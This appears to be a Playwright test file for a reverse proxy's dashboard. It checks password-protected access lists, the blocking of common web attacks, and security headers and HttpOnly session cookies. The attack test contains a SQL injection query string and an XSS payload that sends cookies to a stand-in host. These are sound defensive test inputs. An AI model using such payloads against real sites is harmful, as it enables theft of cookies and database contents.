import http from "node:http";
import { expect, test } from "@playwright/test";
import { startPageBackend, type PageBackend } from "./support/backend-page";
import { startProduct, type RunningProduct } from "./support/product";
import { apiToken } from "./support/api-token";
import { signIn } from "./support/sign-in";

/** An admin protects a site with a password in the dashboard; a visitor's browser is asked for it. */
test.describe.configure({ mode: "serial" });

let product: RunningProduct;
let backend: PageBackend;
let siteId = "";
const admin = { email: "admin@example.com", password: "a long admin password" };

test.beforeAll(async () => {
  backend = await startPageBackend("members area");
  product = await startProduct({ ADMIN_EMAIL: admin.email, ADMIN_PASSWORD: admin.password });
  const token = await apiToken(product.dashboardUrl, admin);
  const response = await fetch(`${product.dashboardUrl}/api/v1/sites`, {
    method: "POST",
    headers: { "content-type": "application/json", authorization: `Bearer ${token}` },
    body: JSON.stringify({ name: "Members", hostnames: ["members.test"], upstreams: [{ url: backend.url }] }),
  });
  expect(response.status).toBe(201);
  siteId = ((await response.json()) as { id: string }).id;
});

test.afterAll(async () => {
  await product?.stop();
  await backend?.close();
});

/** A visitor's request through the proxy, straight from Node (Node cannot resolve *.test). */
/** Posts a JSON body to the site through the proxy as the member the first test adds; answers the status. */
function postViaProxy(path: string, body: unknown): Promise<number> {
  const member = `Basic ${Buffer.from("ann:ann's long password").toString("base64")}`;
  return new Promise((resolve) => {
    http
      .request(
        {
          host: "127.0.0.1",
          port: product.httpPort,
          method: "POST",
          path,
          headers: { host: "members.test", "content-type": "application/json", authorization: member },
        },
        (response) => {
          response.resume();
          response.on("end", () => resolve(response.statusCode ?? 0));
        },
      )
      .on("error", () => resolve(0))
      .end(JSON.stringify(body));
  });
}

function statusViaProxy(path = "/"): Promise<number> {
  return new Promise((resolve) => {
    http
      .get({ host: "127.0.0.1", port: product.httpPort, path, headers: { host: "members.test" } }, (response) => {
        response.resume();
        response.on("end", () => resolve(response.statusCode ?? 0));
      })
      .on("error", () => resolve(0));
  });
}

test("an access list with a user, assigned in the site form, makes the browser get 401", async ({ page, browser }) => {
  const siteUrl = `http://members.test:${product.httpPort}/`;
  // Open to everyone before.
  await expect.poll(() => statusViaProxy(), { timeout: 15_000 }).toBe(200);

  await signIn(page, product.dashboardUrl, admin);

  await page.getByRole("link", { name: "Access lists" }).click();
  await page.getByRole("link", { name: "Add access list" }).click();
  await page.getByLabel("List name").fill("Members only");
  await page.getByTestId("user-row").nth(0).getByLabel("Username 1").fill("ann");
  await page.getByTestId("user-row").nth(0).getByLabel("Password 1").fill("ann's long password");
  await page.getByRole("button", { name: "Add access list" }).click();
  await expect(page).toHaveURL(/\/access-lists\/[^/?]+\?created=1$/);

  await page.goto(`${product.dashboardUrl}/sites/${siteId}?tab=protection`);
  await page.getByLabel("Access list").selectOption({ label: "Members only" });
  await page.getByRole("button", { name: "Save site" }).click();
  await expect(page.getByTestId("form-success")).toBeVisible();

  // The proxy picks the change up live: a visitor now gets 401 and the browser's login prompt.
  await expect.poll(() => statusViaProxy(), { timeout: 15_000 }).toBe(401);
  const visitor = await browser.newContext();
  const visitorPage = await visitor.newPage();
  const answered = visitorPage.waitForResponse(siteUrl);
  // Headless Chromium cancels the login prompt, which ends the navigation with an auth error.
  await visitorPage.goto(siteUrl).catch(() => undefined);
  const visit = await answered;
  expect(visit.status()).toBe(401);
  expect(visit.headers()["www-authenticate"]).toBe('Basic realm="Members only", charset="UTF-8"');
  await visitor.close();

  // With the user's password the browser gets through.
  const member = await browser.newContext({ httpCredentials: { username: "ann", password: "ann's long password" } });
  const memberPage = await member.newPage();
  const allowed = await memberPage.goto(siteUrl);
  expect(allowed?.status()).toBe(200);
  await expect(memberPage.locator("body")).toContainText("members area");
  await member.close();
});

test("attacks in the URL and in a body are refused and show, in plain words, among the site's blocked requests", async ({ page }) => {
  // New sites block common exploits unless switched off.
  expect(await statusViaProxy("/items?id=1%27%20UNION%20SELECT%20password%20FROM%20users--")).toBe(403);
  expect(await postViaProxy("/comments", { text: "<script>fetch('//evil.test/?c='+document.cookie)</script>" })).toBe(403);

  await signIn(page, product.dashboardUrl, admin);
  await page.goto(`${product.dashboardUrl}/sites/${siteId}?tab=protection`);
  await page.getByTestId("protection-card").getByRole("link", { name: "Blocked requests" }).click();
  await expect(page).toHaveURL(/\/access-log\?blocked=1$/);
  // Workers hand the log over every few seconds.
  await expect(async () => {
    await page.reload();
    await expect(page.getByRole("table")).toContainText("UNION%20SELECT", { timeout: 1_000 });
  }).toPass({ timeout: 20_000 });
  await expect(page.getByRole("table")).toContainText("SQL injection");
  await expect(page.getByRole("table")).toContainText("/comments");
  await expect(page.getByRole("table")).toContainText("Cross-site scripting (XSS)");
});

test("the dashboard's own pages carry security headers and a session cookie scripts cannot read", async ({ page }) => {
  const login = await page.goto(`${product.dashboardUrl}/login`);
  const headers = login?.headers() ?? {};
  expect(headers["content-security-policy"]).toContain("frame-ancestors 'none'");
  expect(headers["content-security-policy"]).toContain("form-action 'self'");
  expect(headers["x-frame-options"]).toBe("DENY");
  expect(headers["x-content-type-options"]).toBe("nosniff");
  expect(headers["x-powered-by"]).toBeUndefined();

  await page.getByLabel("Email").fill(admin.email);
  await page.getByLabel("Password", { exact: true }).fill(admin.password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await expect(page.getByRole("button", { name: "Sign out" })).toBeVisible();
  const [session] = (await page.context().cookies()).filter((cookie) => cookie.httpOnly);
  expect(session).toMatchObject({ httpOnly: true, sameSite: "Lax" });
  expect(await page.evaluate(() => document.cookie)).toBe("");
});
